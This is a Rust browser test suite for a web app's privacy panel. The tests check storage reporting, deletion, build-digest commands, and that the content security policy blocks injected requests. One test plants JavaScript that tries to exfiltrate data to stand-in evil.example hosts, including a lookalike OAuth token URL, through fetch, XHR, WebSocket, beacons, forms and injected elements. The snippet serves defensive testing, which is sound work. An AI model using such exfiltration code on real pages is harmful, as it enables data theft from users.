//! Privacy and security: what the page says of itself is what the browser has, and what it promises the browser keeps.

use std::process::{Command, Stdio};

use e2e::{Browser, Files, Kind, Options, Page, Site, until};

/// What the table says of what is kept under this key now.
async fn kept(page: &Page<'_>, key: &str) -> String {
    let script = format!("return document.querySelector('[data-kept=\"{key}\"]')?.textContent ?? ''");
    page.evaluate(&script).await.as_str().unwrap_or_default().to_owned()
}

/// The rows of the table of requests: host, purpose, count.
async fn asked(page: &Page<'_>) -> Vec<[String; 3]> {
    let script = "return [...document.querySelectorAll('#asked tr')].map((row) => \
                  [...row.cells].map((cell) => cell.textContent))";
    serde_json::from_value(page.evaluate(script).await).expect("each row has three cells")
}

async fn says_what_is_kept_and_deletes_it(kind: Kind) {
    let site = Site::of_dist().await;
    let browser = Browser::start(kind, Options::default()).await;
    let page = browser.at(&site);
    page.open("").await;
    page.type_into("Service Name", "Ledger").await;
    page.evaluate("localStorage.setItem('cart', 'of another page')").await;
    page.press("Privacy and security").await;
    page.wait_for("Session storage").await;
    until(
        async || kept(&page, "workbench-draft").await.contains("14 characters").then_some(()),
        async || page.text().await,
    )
    .await;
    page.wait_for("Another page of this host keeps 1 entry in the same storage.").await;
    assert_eq!(kept(&page, "sign-in.").await, "Nothing");
    let host = site.url().split('/').nth(2).expect("an address has a host");
    let rows = asked(&page).await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0][..2], [host.to_owned(), "Files of this page".to_owned()]);
    assert!(rows[0][2].parse::<u32>().is_ok_and(|count| count > 8), "{rows:?}");
    assert_eq!(page.axe().await, [""; 0]);
    let widths: &[u32] = if kind == Kind::Chromium { &[1280, 768, 360, 320] } else { &[1280] };
    page.layout_holds_at("privacy and security", widths).await;

    page.press("Delete everything stored here").await;
    page.press("Cancel").await;
    assert!(kept(&page, "workbench-draft").await.contains("characters"));
    page.press("Delete everything stored here").await;
    page.evaluate("document.body.dataset.before = 'yes'").await;
    page.press("Delete everything").await;
    until(
        async || {
            page.evaluate("return document.body?.dataset.before === undefined").await.as_bool()?.then_some(())
        },
        async || "the page does not reload".to_owned(),
    )
    .await;
    page.until_started().await;
    page.wait_for("Session storage").await;
    until(
        async || (kept(&page, "workbench-draft").await == "Nothing").then_some(()),
        async || page.text().await,
    )
    .await;
    let left =
        page.evaluate("return [...Object.keys(sessionStorage), ...Object.keys(localStorage)].join()").await;
    assert_eq!(left, "cart", "more is deleted, or less, than what is ours");
    page.press("Set up").await;
    assert_eq!(page.evaluate("return document.getElementById('in-service-name').value").await, "");
    browser.end_quietly().await;
}

#[tokio::test]
async fn says_what_is_kept_and_deletes_it_in_chromium() {
    says_what_is_kept_and_deletes_it(Kind::Chromium).await;
}

#[tokio::test]
async fn says_what_is_kept_and_deletes_it_in_firefox() {
    says_what_is_kept_and_deletes_it(Kind::Firefox).await;
}

/// Whatever code ran in the page, the browser would let none of these out, and the page says which it refused.
async fn refuses_planted_requests(kind: Kind) {
    const PLANTED: &str = "
        const done = arguments[arguments.length - 1];
        const at = (place) => `https://${place}.evil.example/take?it=all`;
        const add = (name, attributes) => {
            const element = Object.assign(document.createElement(name), attributes);
            document.body.append(element);
            return element;
        };
        const tried = [
            fetch(at('fetch'), {mode: 'no-cors', method: 'POST', body: 'x'}),
            fetch('https://accounts.zoho.com.evil.example/oauth/v2/token', {mode: 'no-cors'}),
            new Promise((sent, refused) => {
                const request = new XMLHttpRequest();
                request.onload = sent;
                request.onerror = refused;
                request.open('GET', at('xhr'));
                request.send();
            }),
            new Promise((opened, refused) => {
                try {
                    const socket = new WebSocket('wss://socket.evil.example/');
                    socket.onopen = opened;
                    socket.onerror = refused;
                } catch (error) { refused(error); }
            }),
            ...[['img', {src: at('image')}], ['script', {src: at('script')}], ['iframe', {src: at('frame')}],
                ['link', {rel: 'stylesheet', href: at('style')}], ['video', {src: at('video')}],
                ['object', {data: at('object')}]].map(([name, attributes]) => new Promise((loaded, refused) => {
                    const element = add(name, attributes);
                    element.onload = name === 'iframe' || name === 'object' ? refused : loaded;
                    element.onerror = refused;
                    setTimeout(refused, 1500);
                })),
        ];
        const attempt = (what) => { try { what(); } catch { /* as it should be */ } };
        attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
        attempt(() => add('form', {action: at('form'), method: 'post', target: '_self'}).submit());
        add('script', {textContent: 'document.body.dataset.planted = 1'});
        attempt(() => setTimeout('document.body.dataset.planted = 1'));
        attempt(() => add('div', {}).setAttribute('onclick', 'document.body.dataset.planted = 1'));
        document.body.lastElementChild.click();
        document.head.append(Object.assign(document.createElement('base'), {href: at('base')}));
        Promise.allSettled(tried).then((ends) => done([
            ends.filter(({status}) => status === 'fulfilled').length, document.body.dataset.planted ?? null, document.baseURI,
        ]), done);";
    let site = Site::of_dist().await;
    let browser = Browser::start(kind, Options::default()).await;
    let page = browser.at(&site);
    page.open("#centers").await;
    let told =
        browser.driver().execute_async(PLANTED, Vec::new()).await.expect("the script runs").json().clone();
    assert_eq!(told[0], 0, "a planted request was answered: {told}");
    assert!(told[1].is_null(), "planted code ran: {told}");
    assert!(told[2].as_str().is_some_and(|base| base.starts_with(site.url())), "{told}");
    assert!(page.address().await.starts_with(site.url()), "a planted form was sent");
    // For a frame and a form, Chromium connects before it asks the policy, and then sends nothing. SECURITY.md says so.
    let early = ["frame.evil.example", "form.evil.example"];
    let mut calls = browser.calls_outside().await;
    calls.retain(|call| kind == Kind::Firefox || !early.contains(&call.as_str()));
    assert_eq!(calls, [""; 0]);

    page.press("Privacy and security").await;
    page.wait_for("The browser refused requests to these hosts").await;
    for host in ["fetch", "xhr", "image", "script", "style", "beacon"] {
        page.wait_for(&format!("https://{host}.evil.example")).await;
    }
    assert!(!page.text().await.contains("it=all"), "the page says more than the host");
    let rows = asked(&page).await;
    // What was refused was not sent, and some browsers count it all the same: as what no part of the page asks for.
    assert!(rows.iter().all(|row| !row[0].contains("evil") || row[1].contains("Report it")), "{rows:?}");
    browser.close().await;
}

#[tokio::test]
async fn refuses_planted_requests_in_chromium() {
    refuses_planted_requests(Kind::Chromium).await;
}

#[tokio::test]
async fn refuses_planted_requests_in_firefox() {
    refuses_planted_requests(Kind::Firefox).await;
}

/// The commands that check the build give what the page says they give.
#[tokio::test]
async fn the_commands_check_the_build() {
    let site = Site::of_dist().await;
    let browser = Browser::start(Kind::Chromium, Options::default()).await;
    let page = browser.at(&site);
    page.open("#trust").await;
    let build = page.field("build").await;
    let run = |command: String| {
        let output = Command::new("sh").args(["-c", &command]).stderr(Stdio::inherit()).output();
        String::from_utf8_lossy(&output.expect("a shell runs").stdout).into_owned()
    };
    let command = page.field("check-program").await;
    let digest = tokio::task::spawn_blocking(move || run(command)).await.expect("it ends");
    assert!(build.len() == 16 && digest.starts_with(&build), "{build} is not the beginning of {digest}");
    let command = page.field("check-page").await;
    let digest = tokio::task::spawn_blocking(move || run(command)).await.expect("it ends");
    let own = "sha256sum < \"$ZOW_PAGE\"";
    let own = Command::new("sh")
        .args(["-c", own])
        .env("ZOW_PAGE", e2e::environment::dist().join("index.html"))
        .output();
    let own = String::from_utf8_lossy(&own.expect("a shell runs").stdout).into_owned();
    assert_eq!(digest, own);
    // The licenses are there, and name what the page is made of.
    let licenses = Files::of_dist().text("licenses.txt");
    assert!(licenses.contains("\nyew 0.23") && licenses.contains("\nwasm-bindgen "), "{licenses:.300}");
    browser.end_quietly().await;
}
